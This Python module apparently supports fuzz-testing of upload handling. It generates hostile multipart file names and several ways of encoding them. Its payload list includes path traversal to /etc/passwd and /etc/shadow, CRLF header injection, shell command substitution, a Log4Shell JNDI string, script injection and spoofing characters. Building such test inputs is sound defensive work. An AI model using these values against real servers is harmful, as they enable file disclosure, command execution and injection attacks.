"""Names of files that are made to do harm, and the ways in which a form can say them."""

from __future__ import annotations

import base64
import random
from urllib.parse import quote

#: A header that no answer has by itself.
INJECTED = "X-Quokka"
#: The name of what came under a name that was refused.
PLAIN = "cat"

_NAMES = (
    "",
    " ",
    ".",
    "..",
    "~",
    "-rf",
    ".htaccess",
    "../../../etc/passwd",
    "..\\..\\boot.ini",
    "/etc/shadow",
    "C:\\Windows\\win.ini",
    "....//....//etc/hosts",
    "\uff0e\uff0e\uff0fetc\u2215passwd",
    "a/../../b",
    'a"; filename="evil.html',
    "a'b`c",
    "a;filename=evil.html",
    "a\\",
    f"a\r\n{INJECTED}: yes\r\n\r\n<script>alert(1)</script>",
    f"a\n{INJECTED}: yes",
    f"a\u2028{INJECTED}: yes\x85\u2029b",
    "\u202egpj.exe",
    "\u2066a\u2069\u200f\ufeff",
    "a\0b",
    "a\x1b[2Jb\x7f",
    "x" * 4000,
    "\u0416" * 4000,
    "e\u0301" * 500,
    "CON",
    "\uff23\uff2f\uff2e",
    "\u00c7ON",
    "\u2026",
    "nul.tar",
    "COM1 ",
    "lpt\u00b9",
    "%2e%2e%2fetc%2fpasswd",
    "%00",
    f"%0d%0a{INJECTED}:%20yes",
    "%252e%252e%252f",
    "=?utf-8?Q?..=2Fevil.html?=",
    "=?utf-8?B?Li4vZXZpbC5odG1s?=",
    "UTF-8''..%2Fevil.html",
    "<script>alert(1)</script>",
    "$(id)|`id`&id",
    "${jndi:ldap://quokka.invalid/a}",
    "a?b#c*d|e<f>g:h",
    "\U0001f998\u2764\ufe0f",
    "\u732b\u037e\u212a",
)


def hostile_name(chance: random.Random, extension: str) -> str:
    """A name, often of two parts, with that ending."""
    parts = [chance.choice(_NAMES) for _ in range(chance.choice((1, 1, 2)))]
    return "".join(parts) + extension


def said(chance: random.Random, name: str) -> bytes:
    """How a form says a name: as browsers do, as the RFCs want it, or as it is."""
    return chance.choice((_escaped, _percents, _extended, _encoded_word, _raw))(name)


def _escaped(name: str) -> bytes:
    escaped = name.replace("\\", "\\\\").replace('"', '\\"')
    return _raw(escaped.replace("\r", " ").replace("\n", " "))


def _percents(name: str) -> bytes:
    for character in '"\r\n':
        name = name.replace(character, quote(character))
    return _raw(name)


def _extended(name: str) -> bytes:
    return f"filename=\"{PLAIN}\"; filename*=UTF-8''{quote(name, safe='')}".encode()


def _encoded_word(name: str) -> bytes:
    return b'filename="=?utf-8?B?' + base64.b64encode(name.encode()) + b'?="'


def _raw(name: str) -> bytes:
    return b'filename="' + name.encode() + b'"'
